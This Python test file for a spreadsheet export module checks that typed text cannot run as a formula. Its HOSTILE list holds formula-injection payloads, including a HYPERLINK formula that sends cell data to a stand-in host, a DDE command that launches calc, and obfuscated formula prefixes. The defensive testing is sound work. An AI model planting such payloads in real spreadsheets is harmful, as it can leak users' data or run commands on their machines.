"""Spreadsheet files in which nothing that somebody typed runs."""

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemes.exports import STARTS, csv_text, new_workbook, safe_cell, safe_text

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "-2+3",
    "+2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u200b=1",
    "\u00a0+1",
    "\ufeff=1",
    "\0=1",
    "\uff1d1+1",
    "|calc",
    "%0A=1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_could_run_becomes_text_in_a_csv_file(text):
    cells = next(csv.reader(io.StringIO(csv_text([[text, "plain"]]).removeprefix("\ufeff"), newline="")))
    assert cells == [f"'{text}", "plain"]


@pytest.mark.parametrize("number", [-40, -0.5, Decimal("-12.50"), 0, 3.25, True, None, date(2026, 1, 2)])
def test_numbers_and_dates_stay_what_they_are(number):
    assert safe_cell(number) is number


def test_a_negative_number_is_still_a_number_in_the_file():
    assert "\r\n-40,-0.5\r\n" in csv_text([["loss", "share"], [-40, -0.5]])


@pytest.mark.parametrize("text", ["Ramesh", "ईश्वर", "3-4 days", "a=b", "", "’quoted’", "12,000"])
def test_harmless_text_is_left_alone(text):
    assert safe_text(text) == text


@given(st.text())
def test_no_text_whatever_starts_as_a_formula(text):
    made = safe_text(text)
    assert made[:1] not in STARTS
    assert made in (text, f"'{text}")


@pytest.mark.parametrize(
    "text", [*HOSTILE[:5], "http://evil.example/", "internal:Sheet1!A1", "mailto:a@b.c", "12"]
)
def test_a_workbook_holds_typed_text_as_text(text):
    target = io.BytesIO()
    book = new_workbook(target)
    sheet = book.add_worksheet()
    sheet.write(0, 0, text)
    sheet.write(1, 0, -40)
    sheet.write_formula(2, 0, "=A2*2")
    book.close()
    read = openpyxl.load_workbook(io.BytesIO(target.getvalue())).active
    # Text in the shared table has the type "s", whatever it begins with; a formula has "f".
    assert (read["A1"].value, read["A1"].hyperlink) == (text, None)
    raw = _sheet_xml(target.getvalue())
    assert '<c r="A1" t="s">' in raw
    assert raw.count("<f>") == 1
    assert (read["A2"].value, read["A3"].value) == (-40, "=A2*2")


def _sheet_xml(content: bytes) -> str:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        return parts.read("xl/worksheets/sheet1.xml").decode()
